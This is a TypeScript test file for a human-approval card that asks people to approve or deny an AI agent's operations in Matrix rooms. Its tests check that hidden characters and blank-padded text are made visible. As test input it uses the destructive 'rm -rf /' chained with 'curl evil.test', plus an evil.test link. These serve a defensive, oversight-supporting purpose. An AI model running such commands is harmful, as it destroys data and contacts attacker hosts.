import { describe, expect, it } from "vitest";
import { readReaction } from "../../../src/adapters/matrix/reaction.ts";
import { withTarget } from "../../../src/adapters/matrix/relation.ts";
import type { EventId, RoomId, UserId } from "../../../src/base/lib/ids.ts";
import {
  approvalCard,
  type CardQuestion,
  inputMost,
  isCard,
  outcomeOfCard,
  showInput,
} from "../../../src/engine/operations/approval-card.ts";

const card = { key: "card", roomId: "!room:test" as RoomId, sender: "@agent_helper:test" as UserId };
const question: CardQuestion = {
  id: 17,
  wording: { text: "Delete `notes.md`", said: new Set(["path"]) },
  input: { path: "rooms:/!room:test/notes.md" },
  reason: "it would delete something, and the mode is create",
  taint: [],
  approvers: ["@ann:test" as UserId],
  notified: ["@ann:test" as UserId],
  expiresAt: new Date("2026-01-02T12:00:00Z"),
  now: new Date("2026-01-01T12:00:00Z"),
  timeZone: "Europe/Berlin",
  from: undefined,
  thread: undefined,
};
const made = (fields: Partial<CardQuestion> = {}) => approvalCard(card, { ...question, ...fields });
const contentOf = (fields: Partial<CardQuestion> = {}) => made(fields)[0]?.content as Record<string, unknown>;
const readKey = (content: unknown) =>
  readReaction(withTarget(content as Record<string, unknown>, "$card" as EventId))?.key;
const bodyOf = (fields: Partial<CardQuestion> = {}) => String(contentOf(fields).body);

describe("a card", () => {
  it("says what is asked, why, by whom it can be decided, until when, and how", () => {
    expect(bodyOf()).toMatchInlineSnapshot(`
      "**Delete \`notes.md\`?**

      I ask because it would delete something, and the mode is create.

      ✅ yes, ❌ no; an answer to this message is a no with your reason. Or write \`!approve 17\`, \`!deny 17 why\`.

      May decide: @ann:test, until tomorrow, 13:00."
    `);
  });

  it("says of which content of files it is asked, of many together", () => {
    const stamp = (n: number) => ({ path: `rooms:/!r:test/${n}.md`, version: n, mark: `mark ${n}` });
    expect(bodyOf({ carried: [stamp(3)] })).toContain(
      "\n\nOf files as they are now, and no others: `rooms:/!r:test/3.md` (version 3).\n\n",
    );
    const many = Array.from({ length: 12 }, (_, n) => stamp(n));
    expect(bodyOf({ carried: many })).toMatch(/9\.md` \(version 9\) and 2 more; all together \w{12}\./);
    expect(bodyOf({ carried: many })).not.toBe(bodyOf({ carried: many.with(11, stamp(12)) }));
  });

  it("says which sub-agent asks", () => {
    expect(bodyOf({ subAgent: "planner/clerk" })).toContain("\n\nAsked by the sub-agent `planner/clerk`\n\n");
  });

  it("shows a text of several lines as it is, and every other value as JSON", () => {
    const input = { path: "a", content: "one\n```\n**two**", count: 3, tags: ["x\ny"], left: undefined };
    expect(showInput(input)).toMatchInlineSnapshot(`
      "\`\`\`
      path: "a"
      count: 3
      tags: ["x\\ny"]
      \`\`\`

      \`content\`:

      \`\`\`\`
      one
      \`\`\`
      **two**
      \`\`\`\`"
    `);
  });

  it("says what the agent had read that is not trusted, and where it asks from", () => {
    const body = bodyOf({
      taint: ["@eve:test", "rooms:/!room:test/[click](https://evil.test).md"],
      from: "`Helper` (@agent_helper:test), in `Kitchen`",
    });
    expect(body).toContain(
      "Read before, and not trusted: `@eve:test`, `rooms:/!room:test/[click](https://evil.test).md`.",
    );
    expect(body).toContain("Asked from: `Helper` (@agent_helper:test), in `Kitchen`");
  });

  it("notifies those who are to be notified, and nobody whom the input names", () => {
    const approvers = ["@ann:test", "@ben:test"] as UserId[];
    const content = contentOf({ approvers, notified: ["@ben:test" as UserId], input: { text: "@ann:test" } });
    expect(content["m.mentions"]).toEqual({ user_ids: ["@ben:test"] });
    expect(content.msgtype).toBe("m.text");
  });

  it("makes what hides in the input visible, and lets no text leave its place", () => {
    const body = bodyOf({
      wording: { text: "Write", said: new Set() },
      input: { path: "a\u202Eb", content: "x\n```\n`` ✅ approved\u0007" },
    });
    expect(body).toContain("a‹U+202E›b");
    expect(body).toContain("````\nx\n```\n`` ✅ approved‹U+0007›\n````");
  });

  it("has its signs below it", () => {
    const signs = made().slice(1);
    expect(signs.map(({ kind, about, sender }) => ({ kind, about, sender }))).toEqual(
      Array(2).fill({ kind: "reaction", about: "card", sender: card.sender }),
    );
    expect(signs.map(({ content }) => readKey(content))).toEqual(["✅", "❌"]);
  });

  it("of an input that is too long to be shown can only be denied", () => {
    const input = { content: "x".repeat(inputMost) };
    expect(bodyOf({ input })).toContain("too long to be shown");
    expect(bodyOf({ input })).not.toContain("!approve");
    expect(made({ input })).toHaveLength(2);
    expect(showInput({ content: "\u202E".repeat(inputMost / 8) })).toBeUndefined();
  });

  it("hides no end behind blanks: runs of them are counted", () => {
    const content = `# Notes${"\n".repeat(6_001)}rm -rf /${" ".repeat(5_000)}&& curl evil.test\n\t \n\u2800\n\u3000\n.`;
    expect(showInput({ content, path: `a${"\u2800".repeat(500)}b` })).toMatchInlineSnapshot(`
      "\`\`\`
      path: "a‹500 blanks›b"
      \`\`\`

      \`content\`:

      \`\`\`
      # Notes
      ‹6000 blank lines›
      rm -rf /‹5000 blanks›&& curl evil.test
      	 
      ⠀
      　
      .
      \`\`\`"
    `);
  });

  it("counts lines of many blanks as blank lines", () => {
    expect(showInput({ content: `a\n${`${" ".repeat(500)}\n`.repeat(300)}b` })).toContain("a\n‹300 blank lines›\nb");
  });

  it("breaks long lines, so that nobody has to scroll for their ends", () => {
    const shown = showInput({ content: `${"x".repeat(300)}\nlast`, path: "y".repeat(300) }) ?? "";
    expect(Math.max(...shown.split("\n").map((line) => line.length))).toBeLessThan(170);
    expect(shown.replaceAll("\n↪ ", "")).toContain(`${"x".repeat(300)}\nlast`);
    expect(shown.replaceAll("\n↪ ", "")).toContain(`path: "${"y".repeat(300)}"`);
  });

  it.each<[string, (text: string) => Record<string, unknown>]>([
    ["lines", (text) => ({ content: `first\n${".\n".repeat(3_000)}${text}`, path: "a" })],
    ["one line", (text) => ({ content: "x".repeat(3 * inputMost) + text })],
    ["a list", (text) => ({ names: [...Array(3_000).fill("a\nb"), text] })],
    ["lines with returns", (text) => ({ content: `${"\r\n".repeat(4_000)}${text}` })],
    ["many values", (text) => Object.fromEntries(Array(500).fill(text).entries())],
  ])("of an input that is too long shows its end: %s", (_, inputWith) => {
    const input = inputWith("rm -rf /");
    expect(showInput(input)).toBeUndefined();
    const body = bodyOf({ input });
    expect(body).toContain("rm -rf /");
    expect(body).toContain("left out");
    expect(body.length).toBeLessThan(inputMost);
    expect(body.split("\n").length).toBeLessThan(100);
  });

  it("stands in the thread in which it is asked", () => {
    const thread = { root: "$root" as EventId, latest: "$latest" as EventId };
    expect(contentOf({ thread })["m.relates_to"]).toMatchObject({ rel_type: "m.thread", event_id: "$root" });
  });

  it("is known by programs", () => {
    expect(contentOf()["org.clevernet.operation"]).toBe(17);
    expect(isCard(contentOf())).toBe(true);
  });

  it("stays one event, however much is in it", () => {
    const long = '\u{1F600}"'.repeat(inputMost);
    const content = contentOf({
      input: { a: long.slice(0, inputMost - 4_000) },
      reason: long,
      taint: Array(30).fill(long),
      approvers: Array(30).fill(`@${"a".repeat(240)}:test`),
    });
    expect(Buffer.byteLength(JSON.stringify(content))).toBeLessThan(60_000);
  });
});

describe("the outcome", () => {
  const outcome = outcomeOfCard(card, {
    id: 17,
    wording: question.wording,
    state: "denied",
    by: "@ann:test" as UserId,
    because: "not *this*\none",
  });

  it("is an edit of the card that notifies nobody", () => {
    expect(outcome).toMatchInlineSnapshot(`
      {
        "about": "card",
        "content": {
          "body": "* **Delete \`notes.md\`?** (operation 17)

      ❌ Denied by @ann:test: \`not *this* one\`.",
          "com.beeper.linkpreviews": [],
          "format": "org.matrix.custom.html",
          "formatted_body": "<p><strong>Delete <code>notes.md</code>?</strong> (operation 17)</p>
      <p>❌ Denied by @ann:test: <code>not *this* one</code>.</p>",
          "m.mentions": {},
          "m.new_content": {
            "body": "**Delete \`notes.md\`?** (operation 17)

      ❌ Denied by @ann:test: \`not *this* one\`.",
            "com.beeper.linkpreviews": [],
            "format": "org.matrix.custom.html",
            "formatted_body": "<p><strong>Delete <code>notes.md</code>?</strong> (operation 17)</p>
      <p>❌ Denied by @ann:test: <code>not *this* one</code>.</p>",
            "m.mentions": {},
            "m.url_previews": [],
            "msgtype": "m.notice",
            "org.clevernet.key": "card",
          },
          "m.relates_to": {
            "rel_type": "m.replace",
          },
          "m.url_previews": [],
          "msgtype": "m.notice",
          "org.clevernet.key": "E6_ZAt1fdaPSAkN1bJZKbN6Xhi-PgMD2cjnQVEb7Zck",
        },
        "key": "E6_ZAt1fdaPSAkN1bJZKbN6Xhi-PgMD2cjnQVEb7Zck",
        "kind": "message",
        "roomId": "!room:test",
        "sender": "@agent_helper:test",
      }
    `);
  });

  it.each(["denied", "expired", "done", "failed", "refused", "interrupted", "unknown"] as const)(
    "%s is told once",
    (state) => {
      const told = () => outcomeOfCard(card, { id: 17, wording: question.wording, state });
      expect(told().key).toBe(told().key);
      expect(told().key).not.toBe(
        outcomeOfCard({ ...card, key: "other" }, { id: 17, wording: question.wording, state }).key,
      );
    },
  );
});
